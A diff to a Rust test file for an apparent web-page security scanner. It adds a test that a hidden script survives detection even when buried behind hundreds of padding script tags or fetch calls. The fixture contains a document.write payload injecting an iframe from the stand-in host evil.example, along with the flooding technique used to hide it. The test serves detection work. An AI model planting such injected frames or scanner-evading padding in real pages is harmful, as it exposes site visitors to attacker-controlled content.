@@ -1,7 +1,8 @@
 //! Rule `page-cut`: limits are told, never kept quiet.
 
-use crate::harness::{check, compared, worst};
+use crate::harness::{check, compared, inserted, scan_alone, worst};
 use hinomi::model::{Confidence::*, Severity::*};
+use hinomi::monitor::Form;
 
 const RULE: &str = "page-cut";
 
@@ -23,4 +24,16 @@ fn a_limit_asks_for_a_person() {
 #[test]
 fn disagreeing_charsets_are_information() {
     assert_eq!(told("harmless-charset"), Some((Info, Certain)));
+}
+
+#[test]
+fn what_hides_behind_a_flood_is_never_quiet() {
+    let hidden = "document.write('<iframe src=//evil.example/></iframe>')";
+    let scripts: String = (0..600).map(|n| format!("<script>var a{n}=document.createElement('b')</script>")).collect();
+    let actions: String = (0..200).map(|n| format!("fetch('/a/{n}');")).collect();
+    for markup in [format!("{scripts}<script>{hidden}</script>"), format!("<script>{actions}{hidden}</script>")] {
+        assert_eq!(worst(&inserted("hidden-frame", "</main>", &markup), RULE), Some((Medium, Certain)));
+        let page = format!("<!doctype html><title>x</title><body>{markup}");
+        assert_eq!(worst(&scan_alone(&page, Form::Page).0, RULE), Some((Medium, Certain)));
+    }
 }
